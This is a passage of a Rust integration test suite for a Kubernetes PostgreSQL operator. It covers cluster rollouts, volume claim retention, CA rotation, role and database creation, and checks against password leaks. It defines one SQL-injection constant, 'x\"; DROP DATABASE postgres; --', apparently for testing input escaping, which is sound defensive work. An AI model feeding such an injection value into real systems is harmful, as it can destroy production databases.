//! database-operator against the real control plane and a real PostgreSQL server that each
//! test starts itself (Debian's package, run by `steward_testenv::postgres`).
//!
//! Each test has its own namespace, its own in-process operator (watching only that
//! namespace) and, where it needs one, its own PostgreSQL server.

#![allow(clippy::unwrap_used)] // tests fail loudly

use std::collections::BTreeMap;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use database_operator::crd::{
    BackupSpec, Database, DatabaseRole, DatabaseRoleSpec, DatabaseSpec, DeletionPolicy, Ensure,
    ExtensionSpec, ExternalServer, LocalRef, PostgresCluster, Privileges, ROTATE_ANNOTATION,
    SchemaSpec, SslMode,
};
use futures::StreamExt;
use k8s_openapi::api::apps::v1::StatefulSet;
use k8s_openapi::api::batch::v1::Job;
use k8s_openapi::api::core::v1::{
    ConfigMap, Event, PersistentVolume, PersistentVolumeClaim, Pod, Secret, Service,
};
use k8s_openapi::api::policy::v1::PodDisruptionBudget;
use kube::api::{Api, DeleteParams, ListParams, Patch, PatchParams, PostParams};
use kube::runtime::{WatchStreamExt, watcher};
use kube::{Client, Resource, ResourceExt};
use serde_json::json;
use steward_testenv::eventually;
use steward_testenv::harness::Harness;
use steward_testenv::postgres::Postgres;

#[path = "support/fixtures.rs"]
mod fixtures;

const WAIT: Duration = Duration::from_secs(90);
const EVIL: &str = "x\"; DROP DATABASE postgres; --";

// ---------------------------------------------------------------------------------------
// Harness
// ---------------------------------------------------------------------------------------

struct Env {
    client: Client,
    ns: String,
    /// The operator, in-process (stopped when the test's `Env` is dropped).
    operator: Harness,
}

async fn env(prefix: &str) -> Env {
    let cp = steward_testenv::shared().await.expect("control plane");
    // Only this operator's CRDs, from the committed YAML (so a stale file fails here).
    for crd in database_operator::crds() {
        let name = crd.metadata.name.clone().unwrap();
        let path = steward_testenv::workspace_root()
            .join("crds")
            .join(format!("{}_{}.yaml", crd.spec.group, crd.spec.names.plural));
        let text =
            std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        let committed: k8s_openapi::apiextensions_apiserver::pkg::apis::apiextensions::v1::CustomResourceDefinition =
            serde_yaml::from_str(&text).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        assert_eq!(
            committed.spec,
            crd.spec,
            "{} is stale: run `cargo xtask crdgen`",
            path.display()
        );
        cp.apply_crd(&committed)
            .await
            .unwrap_or_else(|e| panic!("install CRD {name}: {e}"));
    }
    let ns = cp.namespace(prefix).await.expect("namespace");
    let args = steward_core::cli::CommonArgs {
        watch_namespace: Some(ns.clone()),
        ..steward_testenv::harness::test_args()
    };
    let mut operator =
        steward_core::Operator::with_config(database_operator::NAME, args, cp.config().clone())
            .expect("operator")
            .backoff(Duration::from_millis(500), Duration::from_secs(4));
    let options = database_operator::Options {
        resync_interval: Duration::from_secs(2),
        // No pod runs here (kwok's nodes): parameters are checked in code only; PostgreSQL's
        // own check runs in the real-node tests.
        check_parameters: false,
        // A CA rotation's phases in seconds, not days.
        ca_rotation_grace: Duration::from_secs(3),
        ..Default::default()
    };
    database_operator::register(&mut operator, options).expect("register");
    Env {
        client: cp.client().expect("client"),
        ns,
        operator: Harness::start(operator).await,
    }
}

impl Env {
    /// Waits until `controller` has looked again at every object of this test: 4 more
    /// reconciles (each test has at most 2 objects per controller, all resynced every 2 s).
    /// What "nothing changed" asserts after this was decided by the operator, not by a sleep
    /// that passes when the operator is slow.
    async fn looked_again(&self, controller: &str) {
        let now = self.operator.all_reconciles(controller);
        self.reconciled(controller, now, 4.0).await;
    }

    /// Waits until `controller` has run `more` reconciles past `from`.
    async fn reconciled(&self, controller: &str, from: f64, more: f64) {
        self.operator
            .reconciled(controller, from, more, WAIT)
            .await
            .unwrap();
    }

    fn api<K>(&self) -> Api<K>
    where
        K: Resource<Scope = k8s_openapi::NamespaceResourceScope, DynamicType = ()>,
    {
        Api::namespaced(self.client.clone(), &self.ns)
    }

    /// A Secret `admin` with the test server's superuser credentials.
    async fn admin_secret(&self, pg: &Postgres) {
        let secret = fixtures::secret(
            "admin",
            [("username", pg.superuser()), ("password", pg.password())],
        );
        self.api::<Secret>()
            .create(&PostParams::default(), &secret)
            .await
            .expect("admin Secret");
    }

    async fn secret(&self, name: &str) -> BTreeMap<String, String> {
        let s = self
            .api::<Secret>()
            .get(name)
            .await
            .unwrap_or_else(|e| panic!("Secret {name}: {e}"));
        s.data
            .unwrap_or_default()
            .into_iter()
            .map(|(k, v)| (k, String::from_utf8(v.0).unwrap()))
            .collect()
    }

    async fn events_text(&self) -> String {
        let events = self
            .api::<Event>()
            .list(&ListParams::default())
            .await
            .unwrap();
        events
            .items
            .iter()
            .map(|e| {
                format!(
                    "{} {} {}\n",
                    e.type_.clone().unwrap_or_default(),
                    e.reason.clone().unwrap_or_default(),
                    e.message.clone().unwrap_or_default()
                )
            })
            .collect()
    }

    async fn wait_event(&self, reason: &str, needle: &str) -> String {
        eventually(
            &format!("an Event {reason} mentioning {needle:?}"),
            WAIT,
            || async {
                let text = self.events_text().await;
                text.lines()
                    .find(|l| l.contains(&format!(" {reason} ")) && l.contains(needle))
                    .map(str::to_string)
                    .ok_or_else(|| format!("events so far:\n{text}"))
            },
        )
        .await
        .unwrap()
    }
}

fn external(pg: &Postgres) -> ExternalServer {
    ExternalServer::plain("127.0.0.1", pg.port(), "admin")
}

/// Test fixture: `database(&pg, "app", "app_owner")`, then adjust fields.
fn database(pg: &Postgres, object: &str, name: &str, owner: &str) -> Database {
    Database::new(object, DatabaseSpec::on(external(pg), name, owner))
}

fn role(object: &str, db: &str, role_name: &str, privileges: Privileges) -> DatabaseRole {
    DatabaseRole::new(
        object,
        DatabaseRoleSpec {
            database_ref: LocalRef { name: db.into() },
            role_name: role_name.into(),
            privileges,
            password_rotation: None,
            adopt: false,
            deletion_policy: DeletionPolicy::Retain,
        },
    )
}

async fn connect(
    pg: &Postgres,
    db: &str,
    user: &str,
    password: &str,
) -> Result<tokio_postgres::Client, tokio_postgres::Error> {
    let (client, conn) =
        tokio_postgres::connect(&pg.conn_str(db, user, password), tokio_postgres::NoTls).await?;
    tokio::spawn(async move {
        let _ = conn.await;
    });
    Ok(client)
}

async fn superuser(pg: &Postgres) -> tokio_postgres::Client {
    connect(pg, "postgres", pg.superuser(), pg.password())
        .await
        .expect("superuser login")
}

fn condition(
    conditions: &[k8s_openapi::apimachinery::pkg::apis::meta::v1::Condition],
    type_: &str,
) -> Option<(String, String, String)> {
    conditions
        .iter()
        .find(|c| c.type_ == type_)
        .map(|c| (c.status.clone(), c.reason.clone(), c.message.clone()))
}

/// Waits until Database `name` says ServerReachable=False and returns the condition's message.
async fn unreachable_message(env: &Env, name: &str) -> String {
    let dbs = env.api::<Database>();
    eventually(
        &format!("Database {name} ServerReachable=False"),
        WAIT,
        || async {
            let d = dbs.get(name).await.map_err(|e| e.to_string())?;
            match condition(&d.status.unwrap_or_default().conditions, "ServerReachable") {
                Some((s, _, m)) if s == "False" => Ok(m),
                other => Err(format!("{other:?}")),
            }
        },
    )
    .await
    .unwrap()
}

async fn wait_database_ready(env: &Env, name: &str) -> Database {
    let api = env.api::<Database>();
    eventually(&format!("Database {name} Ready"), WAIT, || async {
        let db = api.get(name).await.map_err(|e| e.to_string())?;
        let status = db.status.clone().unwrap_or_default();
        match condition(&status.conditions, "Ready") {
            Some((s, _, _))
                if s == "True" && status.observed_generation == db.metadata.generation =>
            {
                Ok(db)
            }
            other => Err(format!("Ready = {other:?}")),
        }
    })
    .await
    .unwrap()
}

async fn wait_role_ready(env: &Env, name: &str) -> DatabaseRole {
    let api = env.api::<DatabaseRole>();
    eventually(&format!("DatabaseRole {name} Ready"), WAIT, || async {
        let r = api.get(name).await.map_err(|e| e.to_string())?;
        let status = r.status.clone().unwrap_or_default();
        match condition(&status.conditions, "Ready") {
            Some((s, _, _)) if s == "True" => Ok(r),
            other => Err(format!("Ready = {other:?}")),
        }
    })
    .await
    .unwrap()
}

async fn wait_gone<K>(api: &Api<K>, name: &str)
where
    K: Resource + Clone + serde::de::DeserializeOwned + std::fmt::Debug,
{
    eventually(&format!("{name} deleted"), WAIT, || async {
        match api.get_opt(name).await {
            Ok(None) => Ok(()),
            Ok(Some(_)) => Err("still there".to_string()),
            Err(e) => Err(e.to_string()),
        }
    })
    .await
    .unwrap();
}

async fn exists(client: &tokio_postgres::Client, query: &str, param: &str) -> bool {
    client
        .query_one(query, &[&param])
        .await
        .unwrap_or_else(|e| panic!("{query}: {e}"))
        .get(0)
}

const DB_EXISTS: &str = "SELECT EXISTS (SELECT 1 FROM pg_database WHERE datname = $1)";
const ROLE_EXISTS: &str = "SELECT EXISTS (SELECT 1 FROM pg_roles WHERE rolname = $1)";

/// Status, Events and the server's statement log must not contain `passwords`.
async fn assert_no_password_leaks(env: &Env, pg: &Postgres, passwords: &[String]) {
    let events = env.events_text().await;
    let dbs = serde_json::to_string(
        &env.api::<Database>()
            .list(&ListParams::default())
            .await
            .unwrap(),
    )
    .unwrap();
    let roles = serde_json::to_string(
        &env.api::<DatabaseRole>()
            .list(&ListParams::default())
            .await
            .unwrap(),
    )
    .unwrap();
    let log = pg.log_text();
    assert!(
        log.contains("statement:"),
        "the server logs statements (log_statement=all)"
    );
    for p in passwords {
        assert!(
            p.len() >= 22,
            "a generated password of ≥128 bits: {} chars",
            p.len()
        );
        assert!(
            !events.contains(p.as_str()),
            "a password leaked into an Event"
        );
        assert!(
            !dbs.contains(p.as_str()) && !roles.contains(p.as_str()),
            "a password leaked into a status"
        );
        assert!(
            !log.contains(p.as_str()),
            "a password reached the server in clear text (statement log)"
        );
    }
}

// ---------------------------------------------------------------------------------------
// 1. PostgresCluster
// ---------------------------------------------------------------------------------------

/// PersistentVolumes of a class unique to the test, so the StatefulSet's claims bind and its
/// pods schedule on the kwok nodes (kwok has no provisioner).
async fn volumes(client: &Client, class: &str, count: usize) {
    let pvs: Api<PersistentVolume> = Api::all(client.clone());
    for i in 0..count {
        let pv = fixtures::persistent_volume(
            &format!("{class}-{i}"),
            class,
            "Retain",
            "database-operator",
        );
        pvs.create(&PostParams::default(), &pv)
            .await
            .expect("create PV");
    }
}

fn owned_by(meta: &k8s_openapi::apimachinery::pkg::apis::meta::v1::ObjectMeta, uid: &str) -> bool {
    meta.owner_references
        .iter()
        .flatten()
        .any(|o| o.uid == uid && o.controller == Some(true))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cluster_children_rollout_replicas_first_and_retained_claims() {
    const NEW_IMAGE: &str = "postgres:16.4";
    let env = env("pgc").await;
    let class = format!("steward-{}", env.ns);
    volumes(&env.client, &class, 3).await;
    let clusters = env.api::<PostgresCluster>();
    let cluster = fixtures::postgres_cluster("pg", 3)
        .storage_class(&class)
        .parameter("max_connections", "150")
        .build();
    let created = clusters
        .create(&PostParams::default(), &cluster)
        .await
        .expect("create PostgresCluster");
    let uid = created.uid().unwrap();

    // Children, each with an owner reference (the superuser Secret under Retain: without,
    // so it outlives the cluster with the claims whose data it opens).
    let sts = eventually("StatefulSet pg", WAIT, || async {
        env.api::<StatefulSet>()
            .get_opt("pg")
            .await
            .map_err(|e| e.to_string())?
            .ok_or("not yet".to_string())
    })
    .await
    .unwrap();
    assert!(owned_by(&sts.metadata, &uid));
    for name in ["pg-hl", "pg-rw", "pg-ro"] {
        let svc = env.api::<Service>().get(name).await.unwrap();
        assert!(owned_by(&svc.metadata, &uid), "{name} owned");
    }
    assert_eq!(
        env.api::<Service>()
            .get("pg-hl")
            .await
            .unwrap()
            .spec
            .unwrap()
            .cluster_ip
            .as_deref(),
        Some("None")
    );
    let cm = env.api::<ConfigMap>().get("pg-config").await.unwrap();
    assert!(owned_by(&cm.metadata, &uid));
    assert!(cm.data.unwrap()["postgresql.conf"].contains("max_connections = '150'"));
    let pdb = env.api::<PodDisruptionBudget>().get("pg").await.unwrap();
    assert!(owned_by(&pdb.metadata, &uid));
    let secret = env.api::<Secret>().get("pg-superuser").await.unwrap();
    assert!(
        secret.owner_references().is_empty(),
        "Retain: the superuser Secret is kept with the data"
    );
    let superuser_password = env.secret("pg-superuser").await["password"].clone();
    assert!(superuser_password.len() >= 22);

    // Pods become Ready on the kwok nodes; status reports it.
    let ready = eventually(
        "PostgresCluster Ready with 3 ready instances",
        Duration::from_secs(180),
        || async {
            let c = clusters.get("pg").await.map_err(|e| e.to_string())?;
            let s = c.status.clone().unwrap_or_default();
            let ready = condition(&s.conditions, "Ready");
            if s.ready_instances == 3
                && ready.as_ref().is_some_and(|r| r.0 == "True")
                && s.observed_generation == c.metadata.generation
            {
                Ok(c)
            } else {
                Err(format!(
                    "readyInstances={} Ready={ready:?} phase={:?}",
                    s.ready_instances, s.phase
                ))
            }
        },
    )
    .await
    .unwrap();
    let status = ready.status.unwrap();
    assert_eq!(
        (status.current_version, status.target_version),
        (Some(16), Some(16))
    );
    assert_eq!(status.primary.as_deref(), Some("pg-0"));
    let pods = env.api::<Pod>();
    let roles: Vec<(String, String)> = pods
        .list(&ListParams::default().labels("database.steward.dev/cluster=pg"))
        .await
        .unwrap()
        .items
        .iter()
        .map(|p| {
            (
                p.name_any(),
                p.labels()
                    .get("database.steward.dev/role")
                    .cloned()
                    .unwrap_or_default(),
            )
        })
        .collect();
    assert!(
        roles.contains(&("pg-0".into(), "primary".into()))
            && roles.contains(&("pg-2".into(), "replica".into())),
        "{roles:?}"
    );

    // A change of the pod template (here an image of the same major; a new major is a
    // pg_upgrade, not a rollout) rolls one instance at a time, replicas first, the primary
    // last (on kwok no instance manager runs, so there is no Lease and no switchover: the
    // first pod is the primary and is replaced last). The StatefulSet is `OnDelete`: the operator
    // deletes the pods; on kwok a pod is Ready within milliseconds, so the deletions are
    // recorded from a watch (every change), not by polling.
    let sts = env.api::<StatefulSet>().get("pg").await.unwrap();
    assert_eq!(
        sts.spec.update_strategy.and_then(|u| u.type_).as_deref(),
        Some("OnDelete")
    );
    let deletions = Arc::new(Mutex::new(Vec::<String>::new()));
    let recorder = {
        let deletions = deletions.clone();
        let api = env.api::<Pod>();
        tokio::spawn(async move {
            let stream = watcher(
                api,
                watcher::Config::default().labels("database.steward.dev/cluster=pg"),
            )
            .applied_objects();
            let mut stream = std::pin::pin!(stream);
            while let Some(item) = stream.next().await {
                let Ok(pod) = item else { continue };
                if pod.metadata.deletion_timestamp.is_some() {
                    let mut deletions = deletions.lock().unwrap();
                    if !deletions.contains(&pod.name_any()) {
                        deletions.push(pod.name_any());
                    }
                }
            }
        })
    };
    clusters
        .patch(
            "pg",
            &PatchParams::default(),
            &Patch::Merge(json!({"spec": {"image": NEW_IMAGE}})),
        )
        .await
        .expect("change the image");
    let generation = clusters.get("pg").await.unwrap().metadata.generation;
    let mut updated_at: BTreeMap<String, Instant> = BTreeMap::new();
    let mut ready_at: BTreeMap<String, Instant> = BTreeMap::new();
    let deadline = Instant::now() + Duration::from_secs(240);
    loop {
        let now = Instant::now();
        for p in pods
            .list(&ListParams::default().labels("database.steward.dev/cluster=pg"))
            .await
            .unwrap()
            .items
        {
            let image = p
                .spec
                .as_ref()
                .and_then(|s| s.containers.first())
                .and_then(|c| c.image.clone());
            if image.as_deref() == Some(NEW_IMAGE) && p.metadata.deletion_timestamp.is_none() {
                updated_at.entry(p.name_any()).or_insert(now);
                let is_ready = p
                    .status
                    .as_ref()
                    .and_then(|s| s.conditions.clone())
                    .unwrap_or_default()
                    .iter()
                    .any(|c| c.type_ == "Ready" && c.status == "True");
                if is_ready {
                    ready_at.entry(p.name_any()).or_insert(now);
                }
            }
        }
        let c = clusters.get("pg").await.unwrap();
        let s = c.status.unwrap_or_default();
        let ready = condition(&s.conditions, "Ready").is_some_and(|r| r.0 == "True");
        if s.observed_generation == generation {
            assert!(
                !ready || s.updated_instances == 3,
                "never Ready at the new generation before every instance runs it: {s:?}"
            );
            if ready {
                assert_eq!(s.current_version, Some(16), "the same major");
                break;
            }
        }
        assert!(
            Instant::now() < deadline,
            "rollout did not finish: updated={updated_at:?} ready={ready_at:?} deletions={:?} status={s:?}",
            deletions.lock().unwrap()
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    recorder.abort();
    let deletions = deletions.lock().unwrap().clone();
    eprintln!("deletions {deletions:?}; updated {updated_at:?}");
    let (u0, u1, u2) = (updated_at["pg-0"], updated_at["pg-1"], updated_at["pg-2"]);
    assert!(
        u2 <= u1 && u1 <= u0,
        "order: pg-2, pg-1, then the primary pg-0"
    );
    assert!(ready_at["pg-2"] <= u1, "pg-1 waited until pg-2 was Ready");
    assert!(
        ready_at["pg-1"] <= u0,
        "the primary waited until pg-1 was Ready"
    );
    assert_eq!(
        deletions,
        vec!["pg-2", "pg-1", "pg-0"],
        "one instance at a time, from the highest ordinal down, the primary last"
    );

    // Deleting the cluster keeps the claims (and the superuser Secret) by default.
    let claims = env.api::<PersistentVolumeClaim>();
    let before: Vec<String> = claims
        .list(&ListParams::default())
        .await
        .unwrap()
        .items
        .iter()
        .map(|c| c.name_any())
        .collect();
    assert_eq!(before.len(), 3, "{before:?}");
    clusters
        .delete("pg", &DeleteParams::background())
        .await
        .unwrap();
    wait_gone(&env.api::<StatefulSet>(), "pg").await;
    wait_gone(&env.api::<Service>(), "pg-rw").await;
    // The cluster is gone, so its cleanup has run; the garbage collector deletes only owned
    // objects, so claims and a Secret that nothing owns stay for good (no waiting needed).
    wait_gone(&clusters, "pg").await;
    let after = claims.list(&ListParams::default()).await.unwrap().items;
    assert_eq!(
        before,
        after.iter().map(|c| c.name_any()).collect::<Vec<_>>(),
        "the claims survive the cluster"
    );
    for claim in &after {
        assert!(
            claim.owner_references().is_empty() && claim.metadata.deletion_timestamp.is_none(),
            "claim {} is owned or being deleted: {:?}",
            claim.name_any(),
            claim.metadata
        );
    }
    let secret = env
        .api::<Secret>()
        .get("pg-superuser")
        .await
        .expect("the superuser Secret survives the cluster");
    assert!(
        secret.owner_references().is_empty(),
        "{:?}",
        secret.metadata.owner_references
    );
    assert_eq!(
        env.secret("pg-superuser").await["password"],
        superuser_password,
        "and so does the superuser Secret's password"
    );
}

/// The cluster's children are written only when they differ: resyncs of a converged cluster
/// (every 2 s here) apply nothing, a deleted child and a child someone else changed are put
/// back, each with its own apply, and then it is quiet again. Counted by the operator's own
/// `steward_child_writes_total` and its reconcile counter, not by waiting.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cluster_children_are_written_only_when_they_differ() {
    let env = env("pgquiet").await;
    let class = format!("steward-{}", env.ns);
    volumes(&env.client, &class, 1).await;
    let clusters = env.api::<PostgresCluster>();
    let cluster = fixtures::postgres_cluster("pg", 1)
        .storage_class(&class)
        .parameter("max_connections", "150")
        .build();
    clusters
        .create(&PostParams::default(), &cluster)
        .await
        .expect("create PostgresCluster");
    eventually(
        "PostgresCluster Ready",
        Duration::from_secs(180),
        || async {
            let c = clusters.get("pg").await.map_err(|e| e.to_string())?;
            let s = c.status.clone().unwrap_or_default();
            match condition(&s.conditions, "Ready") {
                Some(r) if r.0 == "True" && s.observed_generation == c.metadata.generation => {
                    Ok(())
                }
                other => Err(format!("{other:?}")),
            }
        },
    )
    .await
    .unwrap();
    const C: &str = "postgrescluster";
    let writes = || env.operator.counter("steward_child_writes_total", C);
    let reconciles = || {
        env.operator
            .counter("controller_runtime_reconcile_total", C)
    };
    // Converged: settle, then three more resyncs write no child.
    env.reconciled(C, reconciles(), 2.0).await;
    let (w0, r0) = (writes(), reconciles());
    assert!(w0 >= 11.0, "the first reconciles applied every child: {w0}");
    env.reconciled(C, r0, 3.0).await;
    assert_eq!(
        writes(),
        w0,
        "a resync of a converged cluster applied children"
    );

    // A deleted child is put back.
    env.api::<Service>()
        .delete("pg-ro", &DeleteParams::default())
        .await
        .unwrap();
    eventually("pg-ro back", WAIT, || async {
        match env.api::<Service>().get_opt("pg-ro").await {
            Ok(Some(s)) if s.metadata.deletion_timestamp.is_none() => Ok(()),
            other => Err(format!("{other:?}")),
        }
    })
    .await
    .unwrap();
    // A field someone else changes is put back (the change moved it to their manager).
    let configs = env.api::<ConfigMap>();
    let mut cm = configs.get("pg-config").await.unwrap();
    cm.data
        .get_or_insert_with(Default::default)
        .insert("postgresql.conf".into(), "max_connections = '5'\n".into());
    cm.metadata.managed_fields = None;
    configs
        .replace("pg-config", &PostParams::default(), &cm)
        .await
        .unwrap();
    wait_conf(&configs, "pg-config", "max_connections = '150'").await;
    let w1 = writes();
    assert!(
        (w0 + 2.0..=w0 + 4.0).contains(&w1),
        "the Service and the ConfigMap were applied again, nothing much else: {w0} -> {w1}"
    );
    // And quiet again.
    env.reconciled(C, reconciles(), 3.0).await;
    assert_eq!(writes(), w1, "resyncs after the repair applied children");
}

/// Waits until the ConfigMap `name`'s `postgresql.conf` contains `needle`.
async fn wait_conf(configs: &Api<ConfigMap>, name: &str, needle: &str) {
    eventually(&format!("{name}: {needle:?}"), WAIT, || async {
        let cm = configs.get(name).await.map_err(|e| e.to_string())?;
        let conf = cm.data.unwrap_or_default()["postgresql.conf"].clone();
        if conf.contains(needle) {
            Ok(())
        } else {
            Err(conf)
        }
    })
    .await
    .unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cluster_delete_policy_deletes_claims_and_secret() {
    let env = env("pgc-del").await;
    let clusters = env.api::<PostgresCluster>();
    let cluster = fixtures::postgres_cluster("gone", 1)
        .deletion_policy(DeletionPolicy::Delete)
        .build();
    let created = clusters
        .create(&PostParams::default(), &cluster)
        .await
        .unwrap();
    let sts = eventually("StatefulSet gone", WAIT, || async {
        env.api::<StatefulSet>()
            .get_opt("gone")
            .await
            .map_err(|e| e.to_string())?
            .ok_or("not yet".to_string())
    })
    .await
    .unwrap();
    assert_eq!(
        sts.spec
            .persistent_volume_claim_retention_policy
            .unwrap()
            .when_deleted
            .as_deref(),
        Some("Delete")
    );
    let secret = env.api::<Secret>().get("gone-superuser").await.unwrap();
    assert!(
        owned_by(&secret.metadata, &created.uid().unwrap()),
        "Delete: the superuser Secret goes with the cluster"
    );
    // The claim of pod 0 exists (Pending: no provisioner, no volume).
    let claims = env.api::<PersistentVolumeClaim>();
    eventually("claim data-gone-0", WAIT, || async {
        claims
            .get_opt("data-gone-0")
            .await
            .map_err(|e| e.to_string())?
            .ok_or("not yet".to_string())
    })
    .await
    .unwrap();
    clusters
        .delete("gone", &DeleteParams::background())
        .await
        .unwrap();
    wait_gone(&env.api::<Secret>(), "gone-superuser").await;
    wait_gone(&claims, "data-gone-0").await;
}

/// Whether a client trusting `roots` (PEM) accepts `leaf` for `name`.
fn trusted(roots: &[u8], leaf: &[u8], name: &str) -> bool {
    use rustls::client::danger::ServerCertVerifier;
    use rustls::pki_types::pem::PemObject;
    use rustls::pki_types::{CertificateDer, ServerName, UnixTime};
    let mut store = rustls::RootCertStore::empty();
    for cert in CertificateDer::pem_slice_iter(roots).flatten() {
        let _ = store.add(cert);
    }
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let Ok(verifier) =
        rustls::client::WebPkiServerVerifier::builder_with_provider(store.into(), provider).build()
    else {
        return false;
    };
    let Ok(leaf) = CertificateDer::from_pem_slice(leaf) else {
        return false;
    };
    verifier
        .verify_server_cert(
            &leaf,
            &[],
            &ServerName::try_from(name.to_string()).unwrap(),
            &[],
            UnixTime::now(),
        )
        .is_ok()
}

/// Issue #37, item 11: the cluster CA was never rotated. Asked for (`rotate-ca`), a rotation
/// goes through its three phases (grace 3 s here): the new CA trusted beside the old, then
/// signing, then alone. Watched every 100 ms, the server certificate the pods mount is at
/// every moment trusted by the `ca.crt` of its own Secret, of the superuser Secret clients
/// use, and of the superuser Secret as it was one look before (a client that reloaded late);
/// the same request does not rotate twice.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_cluster_ca_rotates_on_request_and_every_client_keeps_trusting_the_server() {
    let env = env("pgc-ca").await;
    let clusters = env.api::<PostgresCluster>();
    clusters
        .create(
            &PostParams::default(),
            &fixtures::postgres_cluster("rot", 1).build(),
        )
        .await
        .unwrap();
    let secrets = env.api::<Secret>();
    let data = |s: &Secret, key: &str| {
        s.data
            .as_ref()
            .and_then(|d| d.get(key))
            .map(|v| v.0.clone())
            .unwrap_or_default()
    };
    let name = format!("rot-rw.{}.svc", env.ns);
    let look = || async {
        let ca = secrets.get("rot-ca").await.map_err(|e| e.to_string())?;
        let tls = secrets.get("rot-tls").await.map_err(|e| e.to_string())?;
        let superuser = secrets
            .get("rot-superuser")
            .await
            .map_err(|e| e.to_string())?;
        Ok::<_, String>((ca, tls, superuser))
    };
    let (ca0, ..) = eventually("the CA and the server certificate", WAIT, look)
        .await
        .unwrap();
    let first = data(&ca0, "signing.crt");
    assert!(!first.is_empty(), "the signing CA is recorded");
    let phase = |s: &Secret| {
        s.annotations()
            .get("database.steward.dev/ca-phase")
            .cloned()
            .unwrap_or_default()
    };
    assert_eq!(phase(&ca0), "Stable");
    clusters
        .patch(
            "rot",
            &PatchParams::default(),
            &Patch::Merge(
                json!({"metadata": {"annotations": {"database.steward.dev/rotate-ca": "r1"}}}),
            ),
        )
        .await
        .unwrap();
    let mut phases = Vec::<String>::new();
    let mut previous_roots = data(&look().await.unwrap().2, "ca.crt");
    let deadline = Instant::now() + WAIT;
    loop {
        let Ok((ca, tls, superuser)) = look().await else {
            continue;
        };
        let leaf = data(&tls, "tls.crt");
        let now_roots = data(&superuser, "ca.crt");
        for (whose, roots) in [
            ("its own Secret's", data(&tls, "ca.crt")),
            ("the superuser Secret's", now_roots.clone()),
            (
                "the superuser Secret's of the look before",
                previous_roots.clone(),
            ),
        ] {
            assert!(
                trusted(&roots, &leaf, &name),
                "in phase {} the server certificate is not trusted by {whose} ca.crt (phases so far {phases:?})",
                phase(&ca)
            );
        }
        previous_roots = now_roots;
        let p = phase(&ca);
        if phases.last() != Some(&p) {
            phases.push(p.clone());
        }
        let generation = ca
            .annotations()
            .get("database.steward.dev/ca-generation")
            .cloned();
        if p == "Stable" && generation.as_deref() == Some("1") {
            let signing = data(&ca, "signing.crt");
            assert_ne!(signing, first, "a new CA signs");
            assert_eq!(
                String::from_utf8_lossy(&data(&ca, "ca.crt"))
                    .matches("BEGIN CERTIFICATE")
                    .count(),
                1,
                "only the new CA is trusted at the end"
            );
            assert!(!trusted(&first, &leaf, &name), "the old CA no longer signs");
            break;
        }
        assert!(
            Instant::now() < deadline,
            "the rotation did not finish: phases {phases:?}"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(
        phases.contains(&"Trusting".to_string()) && phases.contains(&"Serving".to_string()),
        "every phase was seen: {phases:?}"
    );
    // The same request again rotates nothing.
    env.looked_again("postgrescluster").await;
    let (ca, ..) = look().await.unwrap();
    assert_eq!(
        (
            phase(&ca).as_str(),
            ca.annotations()
                .get("database.steward.dev/ca-generation")
                .map(String::as_str)
        ),
        ("Stable", Some("1"))
    );
}

// ---------------------------------------------------------------------------------------
// 2. Database and DatabaseRole on a real server
// ---------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn database_roles_schemas_extensions_and_logins() {
    let pg = Postgres::start().await.expect("PostgreSQL");
    let env = env("pgdb").await;
    env.admin_secret(&pg).await;
    let mut db = database(&pg, "app", "app", "app_owner");
    db.spec.schemas = vec![SchemaSpec {
        name: "reports".into(),
        ensure: Ensure::Present,
    }];
    db.spec.extensions = vec![
        ExtensionSpec {
            name: "pgcrypto".into(),
            ensure: Ensure::Present,
            schema: None,
        },
        ExtensionSpec {
            name: "uuid-ossp".into(),
            ensure: Ensure::Present,
            schema: Some("reports".into()),
        },
    ];
    env.api::<Database>()
        .create(&PostParams::default(), &db)
        .await
        .expect("create Database");
    let ready = wait_database_ready(&env, "app").await;
    let status = ready.status.unwrap();
    assert_eq!(status.secret_name.as_deref(), Some("app-db-credentials"));
    assert_eq!(status.server, Some(format!("127.0.0.1:{}", pg.port())));
    assert_eq!(
        condition(&status.conditions, "ServerReachable").unwrap().0,
        "True"
    );

    let admin = superuser(&pg).await;
    let owner: String = admin
        .query_one(
            "SELECT pg_get_userbyid(datdba) FROM pg_database WHERE datname = $1",
            &[&"app"],
        )
        .await
        .unwrap()
        .get(0);
    assert_eq!(owner, "app_owner");
    let login: bool = admin
        .query_one(
            "SELECT rolcanlogin FROM pg_roles WHERE rolname = $1",
            &[&"app_owner"],
        )
        .await
        .unwrap()
        .get(0);
    assert!(login);
    let app_admin = connect(&pg, "app", pg.superuser(), pg.password())
        .await
        .unwrap();
    let schema_owner: String = app_admin
        .query_one(
            "SELECT pg_get_userbyid(nspowner) FROM pg_namespace WHERE nspname = $1",
            &[&"reports"],
        )
        .await
        .unwrap()
        .get(0);
    assert_eq!(schema_owner, "app_owner");
    let ext: Vec<(String, String)> = app_admin
        .query("SELECT e.extname, n.nspname FROM pg_extension e JOIN pg_namespace n ON n.oid = e.extnamespace ORDER BY 1", &[])
        .await
        .unwrap()
        .iter()
        .map(|r| (r.get(0), r.get(1)))
        .collect();
    assert!(
        ext.contains(&("pgcrypto".into(), "public".into())),
        "{ext:?}"
    );
    assert!(
        ext.contains(&("uuid-ossp".into(), "reports".into())),
        "{ext:?}"
    );

    // The credentials Secret logs in and creates a table.
    let creds = env.secret("app-db-credentials").await;
    for key in [
        "host", "port", "dbname", "user", "password", "uri", "jdbc-uri",
    ] {
        assert!(creds.contains_key(key), "key {key} in {:?}", creds.keys());
    }
    assert_eq!(
        (
            creds["host"].as_str(),
            creds["dbname"].as_str(),
            creds["user"].as_str()
        ),
        ("127.0.0.1", "app", "app_owner")
    );
    assert_eq!(creds["port"], pg.port().to_string());
    assert!(creds["jdbc-uri"].starts_with(&format!(
        "jdbc:postgresql://127.0.0.1:{}/app?user=app_owner&password=",
        pg.port()
    )));
